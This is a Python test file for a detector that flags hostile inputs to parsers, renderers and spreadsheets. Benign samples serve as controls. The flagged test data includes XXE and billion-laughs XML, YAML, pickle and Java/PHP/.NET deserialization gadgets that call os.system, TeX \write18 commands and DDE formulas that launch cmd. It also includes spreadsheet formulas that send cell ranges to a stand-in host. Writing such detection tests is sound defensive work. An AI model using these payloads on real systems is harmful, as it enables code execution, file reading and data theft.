from __future__ import annotations

from base64 import b64encode
from typing import TYPE_CHECKING

from sekisho.guards.parsed import LONGEST, embedded, gathers, judge_cell, judge_parsed
from sekisho.text.signatures import SignatureError, SignatureSet
from tablekit import rows

if TYPE_CHECKING:
    import pytest

PARSES = ("parse", "document")
TEX = frozenset({"latex"})
SHEET = frozenset({"sheet"})


def objected(value: str, words: tuple[str, ...] = PARSES, topics: frozenset[str] = frozenset()) -> bool:
    return [each.rule for each in judge_parsed(value, words, topics).objections] == ["content-reaches"]


@rows(
    "value",
    [
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
        "<!doctype a [<!entity x public 'any' '/etc/passwd'>]><a>&x;</a>",
        "<!DOCTYPE a SYSTEM 'http://evil.example/a.dtd'><a/>",
        "<!DOCTYPE z [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>]><z>&c;</z>",
        '<!DOCTYPE z [<!ENTITY b "&a;&a;">]><z/>',
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='../../etc/passwd'/>",
        "<xsl:import href='http://evil.example/x.xsl'/>",
        "<xsl:copy-of select=\"document('/etc/passwd')\"/>",
        "doc('http://evil.example/')",
        "unparsed-text('/etc/passwd')",
        "<xsl:stylesheet xmlns:rt='http://xml.apache.org/xalan/java/java.lang.Runtime'/>",
        "<x xmlns:msxsl='urn:schemas-microsoft-com:xslt'/>",
        "!!python/object/apply:os.system ['id']",
        "a: !!python/name:os.system",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]",
        "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: x}",
        "x: !ruby/object:Gem::Installer\n  i: x",
        "!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
        "%TAG ! tag:yaml.org,2002:python/\n--- !object/apply:os.system [id]",
        "a: &a [x,x]\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\nd: [*c]",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        'O:21:"GuzzleHttp\\Cookie\\Jar":1:{s:1:"a";s:1:"b";}',
        'a:1:{i:0;O:3:"Foo":0:{}}',
        '{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
        '{"@type": "com.sun.rowset.JdbcRowSetImpl"}',
        '["org.springframework.context.support.ClassPathXmlApplicationContext", "http://evil.example/"]',
        '{"rce": "_$$ND_FUNC$$_function (){}()"}',
        "cos\nsystem\n(S'id'\ntR.",
        b64encode(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94").decode(),
        b64encode(b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00id").decode(),
        "@startuml\n!include /etc/passwd\n@enduml",
        "@startuml\n!$x=%load_json('/etc/passwd')\n@enduml",
        "@startuml\n!$x=%getenv('AWS_SECRET')\n@enduml",
        "include::/etc/passwd[]",
        "text\n.. include:: /etc/passwd\n",
        'digraph { a [image="/etc/passwd"] }',
        "b" * 50_000 + "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    ],
)
def test_what_makes_a_parser_open_or_start_something_is_objected_to(value: str) -> None:
    assert objected(value)


@rows(
    "value",
    [
        "",
        "plain words & more",
        "<!DOCTYPE html><p>&amp;</p>",
        "<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' 'http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd'>",
        "<!DOCTYPE html SYSTEM 'about:legacy-compat'>",
        "<!DOCTYPE book [<!ENTITY author 'a'><!ENTITY part SYSTEM 'chapter.xml'>]><book>&author;</book>",
        "<!DOCTYPE a [<!ENTITY copy '&#169; 2024 &amp; later'>]><a/>",
        "<doc>document('/etc/passwd') is how it is read</doc>",
        "//a[contains(text(),'doc')]",
        "count(//unparsed)",
        "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
        "a: '!!python is a tag'\nb: !!str 1\nc: !!map {}",
        "r: !Ref Bucket\nt: !!python/tuple [1, 2]",
        "base: &base\n  a: 1\nprod:\n  <<: *base\nlist: [*base, *base]",
        'a:1:{s:4:"name";s:4:"Team";}',
        '{"$type": "System.Collections.Generic.List`1"}',
        '{"@type": "Person", "name": "Team"}',
        "gASVCwAAAAAAAABdlChLAUsCSwNlLg==",
        "gather words that look like nothing",
        "aGVsbG8gd29ybGQ=",
        "gASVabcdefg.h.",
        "&a [*b, *b, *b, *b]",
        "@startuml\n!include <C4/C4_Container>\nA -> B : !include later\n@enduml",
        "include::chapter.adoc[]",
        'digraph { a [image="logo.png"] }',
        "\\input{/etc/passwd}",
        "=cmd|'/c calc'!A1",
        "<img src='file:///etc/passwd'>",
    ],
)
def test_what_a_document_honestly_holds_passes(value: str) -> None:
    assert not objected(value)


@rows(
    ("value", "expected"),
    [
        ("\\immediate\\write18{id}", True),
        ("\\input{/etc/passwd}", True),
        ("\\input|id", True),
        ("\\verbatiminput{/home/me/.ssh/id_rsa}", True),
        ("\\lstinputlisting[language=C]{../../x}", True),
        ("\\directlua{os.execute('id')}", True),
        ("\\openin5=x", True),
        ("\\input{chapter1}", False),
        ("\\input{../chapters/intro.tex}", False),
        ("\\includegraphics[width=3cm]{figs/a.png}", False),
        ("\\verb|/home/me/.ssh/id_rsa|", False),
        ("we write 18 lines", False),
    ],
)
def test_what_tex_includes_counts_where_tex_is_compiled(value: str, *, expected: bool) -> None:
    assert objected(value, ("compile", "latex"), TEX) is expected


@rows(
    ("value", "expected"),
    [
        ("=cmd|'/c calc'!A1", True),
        ("+1-cmd|' /C calc'!A0", True),
        ('=DDE("cmd";"/C calc")', True),
        ("=SUM(B1:B9)", False),
        ("-5", False),
    ],
)
def test_cells_that_start_a_program_are_objected_to(value: str, *, expected: bool) -> None:
    assert objected(value, ("set", "cell"), SHEET) is expected


@rows(
    ("value", "expected"),
    [
        ("<img src='file:///etc/passwd'>", True),
        ("<svg><image xlink:href='msl:/tmp/x.msl'/></svg>", True),
        ("<style>p { background: url(file:///etc/passwd) }</style><p style='a'>", True),
        ("<style>@import 'file:///etc/passwd'</style>", True),
        ("<p>see file:///etc/passwd</p>", False),
        ("<img src='data:image/png;base64,AAAA'>", False),
        ("<use xlink:href='#a'/>", False),
    ],
)
def test_files_in_what_is_drawn_are_objected_to(value: str, *, expected: bool) -> None:
    assert objected(value, ("html", "to", "pdf")) is expected


@rows(
    ("value", "words", "found"),
    [
        ("<iframe src='http://10.0.0.1/a'></iframe>", ("html", "pdf"), ["http://10.0.0.1/a"]),
        ("<img src=//10.0.0.1/a>", ("render",), ["http://10.0.0.1/a"]),
        ("p { background: url(http://10.0.0.1/) }", ("render",), ["http://10.0.0.1/"]),
        ("!include http://10.0.0.1/x.puml", ("plantuml",), ["http://10.0.0.1/x.puml"]),
        ("<a href='http://10.0.0.1/'>x</a>", ("render",), []),
        ("<img src='http://10.0.0.1/'>", ("parse",), []),
        ("<img src='a.png'>", ("render",), []),
    ],
)
def test_addresses_that_are_opened_to_draw_a_page_are_found(
    value: str, words: tuple[str, ...], found: list[str]
) -> None:
    assert list(embedded(value, words)) == found


def test_where_the_set_cannot_look_everything_is_looked_for(monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(_self: SignatureSet, _text: str) -> list[int]:
        raise SignatureError("no memory")

    monkeypatch.setattr(SignatureSet, "match", fails)
    assert objected("!!python/object/apply:os.system ['id']")
    assert not objected("plain")


def test_only_the_first_part_of_a_long_document_is_read() -> None:
    assert not objected("a" * LONGEST + "!!python/object/apply:os.system")


@rows(
    ("value", "expected"),
    [("=cmd|'/c calc'!A1", True), ("=SUM(B1:B9)", False), ("cmd|'/c calc'!A1", False), ("", False)],
)
def test_a_cell_that_starts_a_program_is_objected_to(value: str, *, expected: bool) -> None:
    assert bool(judge_cell(value).objections) is expected


@rows(
    ("value", "expected"),
    [
        ('=WEBSERVICE("https://x.example/?"&TEXTJOIN(",",1,A1:Z99))', True),
        ('=IMAGE("https://x.example/?"&A1&B1)', True),
        ('=IMPORTDATA("https://x.example/?"&INDIRECT("A"&1))', True),
        ('=importxml(CONCAT("https://x.example/",$A$1,Sheet2!B2),"//a")', True),
        ('+IF(A1,IMPORTFEED("https://x.example/"&JOIN(",",A:A)))', True),
        ('=IMPORTXML("https://x.example/"&A2,"//a")', False),
        ('=IMAGE("https://x.example/qr?"&A2&A2)', False),
        ('=IMPORTDATA("https://x.example/A1:B2.csv")', False),
        ('=IMPORTRANGE("https://x.example/","A1:B2")', False),
        ('=HYPERLINK("https://x.example/?"&A1&B1,"x")', False),
        ("=SUM(A1:B2)", False),
        ('WEBSERVICE("x"&A1:B2)', False),
        ("", False),
    ],
)
def test_a_formula_that_sends_several_cells_is_told_from_one_that_asks_about_one(value: str, *, expected: bool) -> None:
    assert gathers(value) is expected
